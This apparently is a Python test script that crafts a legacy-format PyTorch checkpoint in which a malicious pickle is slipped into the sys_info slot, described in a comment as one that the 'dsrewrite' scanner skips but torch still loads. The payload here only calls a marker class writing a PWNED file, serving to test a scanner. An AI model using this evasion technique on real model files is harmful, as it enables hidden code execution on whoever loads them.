# legacy format: 4 pickles; dsrewrite scans only the 4th (the object), torch loads the 3rd (sys_info) too and ignores its value
import sys, io, pickle, torch
sys.path.insert(0, "/work/wt-review/tests")
import hostile_pickles as hp
buf = io.BytesIO()
torch.save({"w": torch.ones(1), "m": hp.New(hp.Ref("evilpkg", "Marker"), {})}, buf, pickle_module=hp.HOSTILE_MODULE, _use_new_zipfile_serialization=False)
data = buf.getvalue()
# split the pickles
f = io.BytesIO(data); import pickletools
bounds = []
for i in range(3):
    start = f.tell()
    for _ in pickletools.genops(f): pass
    bounds.append((start, f.tell()))
rest = data[bounds[2][1]:]
sysinfo = io.BytesIO()
hp.HostilePickler(sysinfo, protocol=2).dump(hp.Call(hp.Ref("evilpkg", "Marker"), ("/tmp/review/PWNED_legacy",)))
open("/tmp/review/legacy_sysinfo.pt", "wb").write(data[:bounds[1][1]] + sysinfo.getvalue() + rest)
